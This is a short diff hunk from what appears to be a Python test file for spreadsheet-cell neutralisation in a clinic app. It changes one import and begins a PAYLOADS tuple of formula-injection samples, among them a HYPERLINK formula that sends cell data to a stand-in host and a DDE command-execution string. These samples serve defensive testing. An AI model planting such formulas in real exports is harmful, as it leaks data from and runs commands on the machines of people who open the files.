@@ -17,7 +17,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from app.services import Clinic, report_export
+from app.services import Clinic
+from app.services.reports import export as report_export
 from app.services.spreadsheet_cells import FORMULA_START, neutralise, unescape
 
 PAYLOADS = ('=HYPERLINK("http://evil.example/?q="&A1,"Click")', "=cmd|' /C calc'!A0",
